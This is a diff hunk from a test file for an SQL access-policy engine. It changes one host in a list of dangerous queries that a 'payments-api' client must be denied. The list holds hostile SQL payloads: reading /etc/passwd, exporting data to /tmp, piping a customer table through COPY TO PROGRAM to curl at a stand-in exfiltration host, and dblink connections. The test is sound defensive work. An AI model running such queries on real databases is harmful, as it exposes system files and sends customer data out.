@@ -57,7 +57,7 @@ def test_delete_without_where_denied_with_where_allowed(engine):
     "SELECT pg_read_file('/etc/passwd')",
     "SELECT id, lo_export(doc, '/tmp/x') FROM customers",
     "COPY customers TO PROGRAM 'curl -d @- https://exfil.invalid'",
-    "SELECT dblink_connect('host=10.0.0.9')",
+    "SELECT dblink_connect('host=127.0.0.9')",
 ])
 def test_dangerous_function_denied(engine, sql):
     decision = one(engine, "payments-api", sql)
